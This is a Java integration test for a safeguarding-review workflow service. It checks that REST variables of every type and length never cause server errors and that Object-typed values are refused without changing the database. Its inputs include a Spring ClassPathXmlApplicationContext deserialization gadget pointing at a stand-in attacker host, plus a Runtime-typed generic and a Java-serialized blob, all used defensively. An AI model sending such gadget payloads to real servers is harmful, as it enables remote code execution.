package uk.org.safeguarding.reviews.identity;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

import com.fasterxml.jackson.databind.JsonNode;

import org.camunda.bpm.engine.ManagementService;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.context.annotation.Import;
import org.springframework.jdbc.core.JdbcTemplate;
import org.springframework.test.context.ActiveProfiles;

import uk.org.safeguarding.reviews.support.AsyncContinuations;
import uk.org.safeguarding.reviews.support.DatabaseState;
import uk.org.safeguarding.reviews.support.RestClient;
import uk.org.safeguarding.reviews.support.RestClient.Reply;
import uk.org.safeguarding.reviews.support.TestDatabase;

/**
 * Variables of every REST type, and text at and over the lengths the forms and the database
 * columns allow, sent at a process start, at a task's completion (as the REST API and as Tasklist
 * send it) and in the variable calls: no answer is 5xx; an {@code Object} of any Java type and text
 * over a form's limit are refused with 400, and whatever is refused changes nothing in the database.
 */
@SpringBootTest(webEnvironment = SpringBootTest.WebEnvironment.RANDOM_PORT, properties = "test.database=postgres")
@ActiveProfiles("test")
@Import(TestDatabase.class)
class VariableTypesIT {

  static final String CASE = "Child Types";

  @LocalServerPort int port;
  @Autowired JdbcTemplate jdbc;
  @Autowired ManagementService managementService;

  RestClient rest;
  final List<String> failures = new ArrayList<>();
  int requests;
  int caseNumber;
  final Map<String, Map<Integer, Integer>> statuses = new LinkedHashMap<>();

  static Map<String, Object> typed(String type, Object value, Map<String, Object> valueInfo) {
    Map<String, Object> variable = new LinkedHashMap<>();
    variable.put("value", value);
    if (type != null) {
      variable.put("type", type);
    }
    if (valueInfo != null) {
      variable.put("valueInfo", valueInfo);
    }
    return variable;
  }

  static Map<String, Object> object(String javaType, String format, String value) {
    return typed("Object", value, Map.of("objectTypeName", javaType, "serializationDataFormat", format));
  }

  /** An {@code Object} however it is named or serialized: always refused. */
  static final Map<String, Map<String, Object>> OBJECTS = new LinkedHashMap<>();
  /** Every other kind of value: refused or accepted, never a server error. */
  static final Map<String, Map<String, Object>> OTHERS = new LinkedHashMap<>();
  static {
    OBJECTS.put("Object ArrayList (JSON)", object("java.util.ArrayList", "application/json", "[1,2]"));
    OBJECTS.put("Object String (JSON)", object("java.lang.String", "application/json", "\"text\""));
    OBJECTS.put("Object HashMap (JSON)", object("java.util.HashMap", "application/json", "{\"a\":1}"));
    OBJECTS.put("Object of a generic type", object("java.util.ArrayList<java.lang.Runtime>", "application/json", "[]"));
    OBJECTS.put("Object of a gadget class", object("org.springframework.context.support.ClassPathXmlApplicationContext",
        "application/json", "\"http://attacker.invalid/x.xml\""));
    OBJECTS.put("Object of an application class", object("uk.org.safeguarding.reviews.actionplan.Action", "application/json", "{}"));
    OBJECTS.put("Object of no class", object("no.such.Type", "application/json", "{}"));
    OBJECTS.put("Object of a format no one registered", object("java.lang.String", "application/x-unknown", "text"));
    OBJECTS.put("Object null", object("java.util.ArrayList", "application/json", null));
    OBJECTS.put("untyped JSON object", typed(null, Map.of("a", 1), null));
    OBJECTS.put("untyped JSON list", typed(null, List.of("dorset-police"), null));

    OTHERS.put("Object without details", typed("Object", "[1,2]", null));
    OTHERS.put("Object, Java serialization", object("java.lang.String", "application/x-java-serialized-object", "rO0ABXQAA2Zvbw=="));
    OTHERS.put("File", typed("File", "aGVsbG8=", Map.of("filename", "note.txt", "mimeType", "text/plain")));
    OTHERS.put("File without details", typed("File", "aGVsbG8=", null));
    OTHERS.put("File, not base64", typed("File", "%%%", Map.of("filename", "note.txt")));
    OTHERS.put("Bytes", typed("Bytes", "aGVsbG8=", null));
    OTHERS.put("Bytes, not base64", typed("Bytes", "%%%", null));
    OTHERS.put("Date", typed("Date", "2026-11-02T10:00:00.000+0000", null));
    OTHERS.put("Date, not a date", typed("Date", "2026-11-02", null));
    OTHERS.put("Null", typed("Null", null, null));
    OTHERS.put("Null with a value", typed("Null", "x", null));
    OTHERS.put("unknown type", typed("NoSuchType", "x", null));
    OTHERS.put("empty type", typed("", "x", null));
    OTHERS.put("Java class as type", typed("java.util.ArrayList", "x", null));
    OTHERS.put("Xml", typed("Xml", "<a/>", null));
    OTHERS.put("Json of 20,001 characters", typed("Json", "[\"" + "x".repeat(20_001) + "\"]", null));
    OTHERS.put("String of 4,001 characters", typed("String", text(4_001), null));
    OTHERS.put("String of 20,000 characters", typed("String", text(20_000), null));
    OTHERS.put("String of 20,001 characters", typed("String", text(20_001), null));
    OTHERS.put("untyped text of 20,000 characters", typed(null, text(20_000), null));
  }

  /** Text the IMR's analysis (a text area of up to 20,000 characters) accepts. */
  static final java.util.Set<String> IMR_ANALYSIS_ACCEPTS = java.util.Set.of("String of 4,001 characters",
      "String of 20,000 characters", "untyped text of 20,000 characters");

  static String text(int length) {
    return "Long text — café ".repeat(length / 17 + 1).substring(0, length);
  }

  @Test
  void noVariableOfAnyTypeOrLengthAnswers5xx_andWhatIsRefusedChangesNothing() {
    rest = new RestClient(port, () -> AsyncContinuations.run(managementService));
    rest.referralToImrs(CASE);
    JsonNode imr = rest.onlyTask("dorset-police", CASE, "taskDefinitionKey=UserTask_SubmitImr");
    String task = imr.path("id").asText();
    String contribution = imr.path("processInstanceId").asText();
    String start = "/engine-rest/process-definition/key/safeguarding-referral/start";
    Map<String, Map<String, Object>> all = new LinkedHashMap<>(OBJECTS);
    all.putAll(OTHERS);

    all.forEach((kind, value) -> {
      boolean object = OBJECTS.containsKey(kind);
      // in place of a form's text field (at most 4,000 characters here): refused unless it is text that fits
      send(kind, "as the incident summary", start, "POST", "dorset-police", referral(Map.of("incidentSummary", value)), 400);
      // the IMR's analysis takes up to 20,000 characters: what it accepts is sent once, at the end
      if (!IMR_ANALYSIS_ACCEPTS.contains(kind)) {
        send(kind, "as the IMR analysis", "/engine-rest/task/" + task + "/complete", "POST", "dorset-police",
            imr(Map.of("imrAnalysis", value)), 400);
        send(kind, "as the IMR analysis, from Tasklist", "/engine-rest/task/" + task + "/submit-form", "POST", "dorset-police",
            imr(Map.of("imrAnalysis", value)), 400);
      }
      // beside a submission the form refuses (no author): refused, whatever it is
      Map<String, Object> withoutAuthor = new LinkedHashMap<>(imr(Map.of("extra", value)));
      ((Map<?, ?>) withoutAuthor.get("variables")).remove("imrAuthor");
      send(kind, "beside an IMR with no author", "/engine-rest/task/" + task + "/complete", "POST", "dorset-police",
          withoutAuthor, 400);
      // beside a complete referral: an object is refused; other kinds are left to the form gate
      send(kind, "beside a referral", start, "POST", "dorset-police", referral(Map.of("extra", value)), object ? 400 : 0);
      // the variable calls
      send(kind, "as a task variable", "/engine-rest/task/" + task + "/variables/extra", "PUT", "dorset-police", value,
          object ? 400 : 0);
      send(kind, "as a task variable (modification)", "/engine-rest/task/" + task + "/variables", "POST", "dorset-police",
          Map.of("modifications", Map.of("extra", value)), object ? 400 : 0);
      send(kind, "as a task's local variable", "/engine-rest/task/" + task + "/localVariables/extra", "PUT", "dorset-police",
          value, object ? 400 : 0);
      send(kind, "as a process variable", "/engine-rest/process-instance/" + contribution + "/variables/extra", "PUT",
          "scr.chair", value, object ? 400 : 0);
      send(kind, "as a process variable (modification)", "/engine-rest/process-instance/" + contribution + "/variables", "POST",
          "scr.chair", Map.of("modifications", Map.of("extra", value)), object ? 400 : 0);
    });

    statuses.forEach((where, counts) -> System.out.println("STATUSES " + where + " " + counts));
    failures.forEach(f -> System.out.println("UNEXPECTED " + f));
    assertThat(requests).isGreaterThan(300);
    assertThat(failures).isEmpty();

    // the IMR with the longest text its form allows, and text over the column's 4,000, is accepted whole
    String analysis = text(20_000);
    String chronology = text(4_001);
    Reply completed = rest.post("/engine-rest/task/" + task + "/complete", "dorset-police",
        imr(Map.of("imrAnalysis", typed("String", analysis, null), "imrChronology", typed("String", chronology, null))));
    assertThat(completed.status()).as(completed.text()).isEqualTo(204);
    JsonNode stored = rest.get("/engine-rest/process-instance/" + contribution + "/variables", "scr.chair").body();
    assertThat(stored.path("imrAnalysis").path("value").asText()).isEqualTo(analysis);
    assertThat(stored.path("imrAnalysis").path("type").asText()).isEqualTo("String");
    assertThat(stored.path("imrChronology").path("value").asText()).isEqualTo(chronology);
  }

  /**
   * Sends one request: never 5xx; the {@code expected} status (0: any below 500), or 403 where the
   * user may not make the call at all; an {@code Object} refused says so; and a refused request
   * leaves the database as it was.
   */
  private void send(String kind, String where, String path, String method, String user, Object body, int expected) {
    Map<String, Integer> before = DatabaseState.counts(jdbc);
    Reply reply = rest.call(method, path, user, body);
    requests++;
    statuses.computeIfAbsent(where, w -> new java.util.TreeMap<>()).merge(reply.status(), 1, Integer::sum);
    String outcome = kind + " " + where + " -> " + reply.status() + " " + abbreviate(reply.text());
    if (reply.status() >= 500 || (expected != 0 && reply.status() != expected && reply.status() != 403)) {
      failures.add(outcome);
    } else if (reply.status() >= 400 && !DatabaseState.counts(jdbc).equals(before)) {
      failures.add("refused but changed the database: " + outcome);
    } else if (OBJECTS.containsKey(kind) && reply.status() == 400 && !reply.text().contains("values of type Object")
        && !reply.text().contains("is not a field of this form")) {
      failures.add("refused without saying why: " + outcome);
    }
    if (reply.status() < 300 && path.endsWith("/start")) {
      caseNumber++;
    }
  }

  private Map<String, Object> referral(Map<String, Object> variables) {
    Map<String, Object> all = new LinkedHashMap<>();
    all.put("caseReference", typed("String", "Child Types " + (caseNumber + 1), null));
    all.put("incidentSummary", typed("String", "Child injured", null));
    all.put("referringAgency", typed("String", "Dorset Police", null));
    all.put("boardAwareOn", typed("String", "2026-11-02", null));
    all.put("agenciesInvolved", typed("Json", "[\"dorset-police\"]", null));
    all.put("mediaInterest", typed("Boolean", false, null));
    all.putAll(variables);
    return Map.of("variables", all);
  }

  private static Map<String, Object> imr(Map<String, Object> variables) {
    Map<String, Object> all = new LinkedHashMap<>();
    for (String[] field : new String[][] {{"imrAuthor", "A. Author"}, {"imrAuthorRole", "Line manager"},
        {"imrChronology", "2009-2011"}, {"imrAnalysis", "Analysis"}, {"imrLessons", "Lessons"},
        {"imrRecommendations", "Recommendations"}}) {
      all.put(field[0], typed("String", field[1], null));
    }
    all.putAll(variables);
    return Map.of("variables", all);
  }

  private static String abbreviate(String s) {
    return s == null ? "" : s.length() > 300 ? s.substring(0, 300) + "..." : s;
  }
}
